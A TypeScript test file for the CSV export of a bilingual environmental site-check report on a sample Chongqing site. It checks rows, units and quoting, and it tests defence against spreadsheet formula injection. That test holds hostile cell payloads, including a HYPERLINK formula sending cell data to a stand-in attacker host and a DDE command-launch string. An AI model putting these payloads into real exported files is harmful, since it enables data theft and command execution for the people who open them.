/**
 * The CSV export of the hand-made site check, in Chinese and English, compared line by line
 * with text written by hand. Only the long fixed sentences (illustrative notice, disclaimer)
 * come from the catalogues; every figure, name and separator is typed out here.
 */
import { describe, expect, it } from 'vitest';
import { enReport } from '../../src/i18n/en-report';
import { zhReport } from '../../src/i18n/zh-report';
import { guardCell, toCsv } from '../../src/present/csv';
import { siteCheckCsv } from '../../src/present/site-csv';
import { siteReport } from '../../src/present/site-report';
import { handMadeResult } from './present-fixture';

const meta = { datasetName: '重庆市（示例数据）', generated: '2024-06-30 14:05', permalink: 'https://example.org/#site=A1' };
const lines = (csv: string) => {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  expect(csv.endsWith('\r\n')).toBe(true);
  return csv.slice(1, -2).split('\r\n');
};

describe('site check CSV', () => {
  it('Chinese', () => {
    expect(lines(siteCheckCsv(siteReport(handMadeResult(), 'zh', true), meta))).toEqual([
      '类别,项目,编码,名称,数值,单位,说明',
      `数据,数据,,重庆市（示例数据）,,,${zhReport['report.illustrative']}`,
      '数据,生成时间,,,2024-06-30 14:05,,',
      '数据,复现本次核查的链接,,,https://example.org/#site=A1,,',
      '场地,类型,,,面,,',
      '场地,面积,,,150000,平方米,',
      '场地,面积,,,15.00,公顷,',
      '场地,面积,,,225.00,亩,',
      '场地,面积,,,0.1500,平方公里,',
      '场地,周长,,,1600.00,米,',
      '场地,中心点经度,,,106.500000,度,',
      '场地,中心点纬度,,,29.500000,度,',
      '场地,顶点数,,,5,个,',
      '场地,所在区县,500103,渝中区,,,',
      '场地,所在区县,500105,江北区,,,',
      '场地,数据覆盖比例,,,100.0,%,',
      '涉及的管控单元,重叠面积,ZH50010320001,渝中区城镇重点管控单元1,120000,平方米,重点管控；城镇重点管控；渝中区；占场地 80.0%',
      '涉及的管控单元,重叠面积,ZH50010330001,渝中区一般管控单元,30000,平方米,一般管控；一般管控；渝中区；占场地 20.0%',
      '最近的优先保护单元,距离,ZH50010310003,渝中区生态保护红线优先保护单元3,750.50,米,',
      '与主要河流的距离,距离,,长江,420.00,米,1 公里岸线带内：是；5 公里范围内：是',
      '与主要河流的距离,距离,,嘉陵江,2500.00,米,1 公里岸线带内：否；5 公里范围内：是',
      '与主要河流的距离,距离,,乌江,125000.00,米,1 公里岸线带内：否；5 公里范围内：否',
      '附近的监测断面,距离,S01,寸滩,3200.00,米,长江；水质 Ⅱ 类；下游；沿河 4.00 公里',
      '附近的监测断面,距离,S02,大溪沟,1500.00,米,嘉陵江；水质 Ⅲ 类；—',
      '生态环境准入清单,空间布局约束,ZH50010320001、ZH50010330001,,,,禁止新建化工项目。',
      '生态环境准入清单,污染物排放管控,ZH50010320001,,,,污水全部纳管。',
      '核查结论,结论,caution,,需要注意,,场地不涉及优先保护单元，但有下列需要注意的情况',
      '核查结论,依据,,,,,场地涉及重点管控单元 ZH50010320001（渝中区城镇重点管控单元1）。',
      '核查结论,依据,,,,,场地邻近优先保护单元 ZH50010310003（渝中区生态保护红线优先保护单元3），最近距离 751 米。',
      '核查结论,依据,,,,,场地距长江岸线 420 米，在 1 公里岸线带内。',
      '核查结论,依据,,,,,场地距嘉陵江岸线 2.50 公里，在 5 公里范围内。',
      `核查结论,声明,,,,,${zhReport['report.disclaimer.illustrative']}`,
    ]);
  });

  it('English', () => {
    expect(lines(siteCheckCsv(siteReport(handMadeResult(), 'en', true), meta))).toEqual([
      'Category,Item,Code,Name,Value,Unit,Note',
      `Data,Data,,重庆市（示例数据）,,,"${enReport['report.illustrative']}"`,
      'Data,Generated,,,2024-06-30 14:05,,',
      'Data,Link that reproduces this check,,,https://example.org/#site=A1,,',
      'Site,Kind,,,Area,,',
      'Site,Area,,,150000,m²,',
      'Site,Area,,,15.00,ha,',
      'Site,Area,,,225.00,mu (亩),',
      'Site,Area,,,0.1500,km²,',
      'Site,Perimeter,,,1600.00,m,',
      'Site,Centre longitude,,,106.500000,°,',
      'Site,Centre latitude,,,29.500000,°,',
      'Site,Vertices,,,5,,',
      'Site,Districts,500103,Yuzhong,,,',
      'Site,Districts,500105,Jiangbei,,,',
      'Site,Share covered by the data,,,100.0,%,',
      'Control units touched,Overlap area,ZH50010320001,渝中区城镇重点管控单元1,120000,m²,Key control; Urban key control area; Yuzhong; 80.0% of the site',
      'Control units touched,Overlap area,ZH50010330001,渝中区一般管控单元,30000,m²,General control; 一般管控; Yuzhong; 20.0% of the site',
      'Nearest priority-protection unit,Distance,ZH50010310003,渝中区生态保护红线优先保护单元3,750.50,m,',
      'Distance to the main rivers,Distance,,Yangtze,420.00,m,Within 1 km: Yes; within 5 km: Yes',
      'Distance to the main rivers,Distance,,Jialing River,2500.00,m,Within 1 km: No; within 5 km: Yes',
      'Distance to the main rivers,Distance,,Wu River,125000.00,m,Within 1 km: No; within 5 km: No',
      'Monitoring sections nearby,Distance,S01,寸滩,3200.00,m,Yangtze; water Class Ⅱ; Downstream; 4.00 km along the river',
      'Monitoring sections nearby,Distance,S02,大溪沟,1500.00,m,Jialing River; water Class Ⅲ; —',
      'Environmental access list,Spatial layout,"ZH50010320001, ZH50010330001",,,,禁止新建化工项目。',
      'Environmental access list,Pollutant discharge,ZH50010320001,,,,污水全部纳管。',
      'Result,Result,caution,,Caution,,"The site touches no priority-protection unit, but note the points below"',
      'Result,Reason,,,,,The site touches key-control unit ZH50010320001 (渝中区城镇重点管控单元1).',
      'Result,Reason,,,,,The site is close to priority-protection unit ZH50010310003 (渝中区生态保护红线优先保护单元3): 751 m at the nearest point.',
      'Result,Reason,,,,,"The site is 420 m from the Yangtze bank, inside the 1 km shoreline band."',
      'Result,Reason,,,,,"The site is 2.50 km from the Jialing River bank, within 5 km."',
      `Result,Disclaimer,,,,,${enReport['report.disclaimer.illustrative']}`,
    ]);
  });

  it('line and point sites: length rows in metres, point shares', () => {
    const line = handMadeResult();
    line.site = { ...line.site, kind: 'line', areaM2: 0, lengthM: 2000 };
    line.units = line.units.map((u, i) => ({ ...u, overlapAreaM2: 0, overlapLengthM: i ? 500 : 1500, shareOfSite: i ? 0.25 : 0.75 }));
    const zhLines = lines(siteCheckCsv(siteReport(line, 'zh', true)));
    expect(zhLines.filter((l) => l.startsWith('场地,长度') || l.startsWith('场地,面积'))).toEqual(['场地,长度,,,2000.00,米,']);
    expect(zhLines.filter((l) => l.startsWith('涉及的管控单元'))).toEqual([
      '涉及的管控单元,重叠长度,ZH50010320001,渝中区城镇重点管控单元1,1500.00,米,重点管控；城镇重点管控；渝中区；占场地 75.0%',
      '涉及的管控单元,重叠长度,ZH50010330001,渝中区一般管控单元,500.00,米,一般管控；一般管控；渝中区；占场地 25.0%',
    ]);
    const point = handMadeResult();
    point.site = { ...point.site, kind: 'point', areaM2: 0, lengthM: 0, vertexCount: 1 };
    point.units = [{ ...point.units[0]!, overlapAreaM2: 0, shareOfSite: 1 }];
    point.nearestPriority = { ...point.nearestPriority!, distanceM: 0, inside: true };
    const enLines = lines(siteCheckCsv(siteReport(point, 'en', true)));
    expect(enLines.filter((l) => l.startsWith('Control units') || l.startsWith('Nearest') || l.startsWith('Site,Perimeter'))).toEqual([
      'Control units touched,Share of points,ZH50010320001,渝中区城镇重点管控单元1,100.0,%,Key control; Urban key control area; Yuzhong; 100.0% of the site',
      'Nearest priority-protection unit,Distance,ZH50010310003,渝中区生态保护红线优先保护单元3,0.00,m,The site lies inside this unit (distance 0 m)',
    ]);
  });

  it('formula injection: data cells starting with = + - @ get an apostrophe; numbers do not', () => {
    const r = handMadeResult();
    r.units = [{ ...r.units[0]!, name: '=HYPERLINK("http://evil.example/?q="&A1,"点击")', subtype: '+SUM(1,2)' }];
    r.rules.spatial_layout = [{ text: '@cmd|" /C calc"!A0', codes: ['-2+3'] }];
    const out = lines(siteCheckCsv(siteReport(r, 'zh', true)));
    expect(out).toContain(`涉及的管控单元,重叠面积,ZH50010320001,"'=HYPERLINK(""http://evil.example/?q=""&A1,""点击"")",120000,平方米,"重点管控；+SUM(1,2)；渝中区；占场地 80.0%"`);
    expect(out).toContain(`生态环境准入清单,空间布局约束,'-2+3,,,,"'@cmd|"" /C calc""!A0"`);
    expect(guardCell('-12.5')).toBe('-12.5');
    expect(guardCell('-12.5e3')).toBe("'-12.5e3");
    expect(guardCell('\t=1')).toBe("'\t=1");
  });

  it('RFC 4180 quoting of commas, quotes and line breaks', () => {
    const out = toCsv([['a,b', 'say "hi"', 'two\r\nlines', 'one\nline', '', '中文，全角逗号']]);
    expect(out).toBe('\uFEFF"a,b","say ""hi""","two\r\nlines","one\nline",,中文，全角逗号\r\n');
  });
});
